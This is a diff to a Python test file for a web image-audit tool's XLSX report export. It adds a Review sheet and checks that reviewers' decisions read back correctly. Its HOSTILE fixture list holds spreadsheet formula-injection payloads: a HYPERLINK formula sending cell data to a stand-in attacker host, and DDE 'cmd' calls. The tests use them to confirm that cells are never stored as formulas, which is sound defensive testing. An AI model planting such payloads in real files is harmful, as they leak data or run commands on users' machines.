@@ -18,7 +18,7 @@ from reports.formats import FORMATS
 from reports.writers import CSV_COLUMNS, write_pages_csv
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -67,8 +67,8 @@ def test_the_xlsx_has_a_sheet_per_view_and_text_cells(hostile_report: AuditRepor
 
     path = FORMATS["xlsx"].write(hostile_report, tmp_path / "report.xlsx")
     workbook = load_workbook(path)
-    assert workbook.sheetnames == ["Images", "Pages", "Issues"]
-    images, pages, issues = (workbook[name] for name in workbook.sheetnames)
+    assert workbook.sheetnames == ["Review", "Images", "Pages", "Issues"]
+    review, images, pages, issues = (workbook[name] for name in workbook.sheetnames)
     records = [record for page in hostile_report.pages for record in page.images]
     findings = sum(len(record.alt_issues) + len(record.seo_issues) for record in records)
     assert images.max_row == 1 + len(records) and pages.max_row == 2 and issues.max_row == 1 + findings > 1
@@ -77,7 +77,7 @@ def test_the_xlsx_has_a_sheet_per_view_and_text_cells(hostile_report: AuditRepor
     alt_column = header.index("alt") + 1
     alts = {images.cell(row, alt_column).value for row in range(2, images.max_row + 1)}
     assert set(HOSTILE) | {"Café crème"} == alts  # the page's text as written...
-    for sheet in (images, pages, issues):
+    for sheet in (review, images, pages, issues):
         for row in sheet.iter_rows(min_row=2):
             assert not [cell for cell in row if cell.data_type == "f"]  # ...and never a formula
     width_column = header.index("width") + 1
@@ -87,3 +87,52 @@ def test_the_xlsx_has_a_sheet_per_view_and_text_cells(hostile_report: AuditRepor
     letter = get_column_letter(header.index("decision") + 1)
     assert choice.formula1 == '"accept,edit,reject"' and str(choice.sqref) == f"{letter}2:{letter}1048576"
     assert "--decisions" in choice.prompt and not pages.data_validations.dataValidation
+
+
+def test_the_review_sheet_lists_each_image_once_and_reads_back(fresh_server: FixtureServer, tmp_path: Path) -> None:
+    """A site's logo on every page is one row of the Review sheet (with how many pages show it), and a
+    decision made there is what --decisions reads; a workbook reviewed on its Images sheet still reads."""
+    from openpyxl import load_workbook
+
+    from reports.decisions import read_decisions
+
+    logo = '<a href="/"><img src="/logo.png" width="40" height="40"></a>'
+    for path in ("/", "/a", "/b"):
+        fresh_server.add(path, f'<html><head><meta property="og:site_name" content="Acme"></head><body>{logo}'
+                               f'<img src="/photo{path.strip("/")}.jpg" alt="photo.jpg"></body></html>')  # fmt: skip
+        fresh_server.add(f"/photo{path.strip('/')}.jpg", make_image(300, 200, "JPEG", seed=len(path)),
+                         content_type="image/jpeg")  # fmt: skip
+    fresh_server.add("/logo.png", make_image(40, 40, seed=1), content_type="image/png")
+    options = AuditOptions(render="never", allow_private=True, ocr="off")
+    report = run_audit([fresh_server.url(p) for p in ("/", "/a", "/b")], options, FakeCaptioner())
+    path = FORMATS["xlsx"].write(report, tmp_path / "report.xlsx")
+    sheet = load_workbook(path)["Review"]
+    header = [cell.value for cell in sheet[1]]
+    rows = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
+    by_url = {row["url"].rsplit("/", 1)[-1]: row for row in rows}
+    assert sorted(by_url) == ["logo.png", "photo.jpg", "photoa.jpg", "photob.jpg"]  # the logo once, not 3 times
+    assert (by_url["logo.png"]["pages"], by_url["logo.png"]["suggested_alt"]) == (3, "Acme home page")
+    assert by_url["logo.png"]["alt"] == "(none)" and by_url["photo.jpg"]["alt"] == "photo.jpg"
+    assert by_url["logo.png"]["export"] == "yes" and by_url["logo.png"]["suggestion_basis"] == "link_target"
+
+    book = load_workbook(path)
+    review = book["Review"]
+    decision, text = header.index("decision") + 1, header.index("suggested_alt") + 1
+    logo_row = next(r for r in range(2, review.max_row + 1) if str(review.cell(r, 1).value).endswith("/logo.png"))
+    review.cell(logo_row, decision).value = "accept"
+    review.cell(logo_row, text).value = "Acme Bakery home page"
+    book.save(tmp_path / "reviewed.xlsx")
+    decided = read_decisions(tmp_path / "reviewed.xlsx")
+    assert [(d.url.rsplit("/", 1)[-1], d.decision, d.text) for d in decided.values()] == [
+        ("logo.png", "accept", "Acme Bakery home page")
+    ]
+    book = load_workbook(tmp_path / "reviewed.xlsx")  # decided on both sheets: the Review sheet's come last
+    images = book["Images"]
+    columns = [cell.value for cell in images[1]]
+    for row in range(2, images.max_row + 1):
+        name = str(images.cell(row, columns.index("url") + 1).value).rsplit("/", 1)[-1]
+        if name in ("logo.png", "photoa.jpg"):
+            images.cell(row, columns.index("decision") + 1).value = "reject"
+    book.save(tmp_path / "both.xlsx")
+    decided = {d.url.rsplit("/", 1)[-1]: d.decision for d in read_decisions(tmp_path / "both.xlsx").values()}
+    assert decided == {"logo.png": "accept", "photoa.jpg": "reject"}
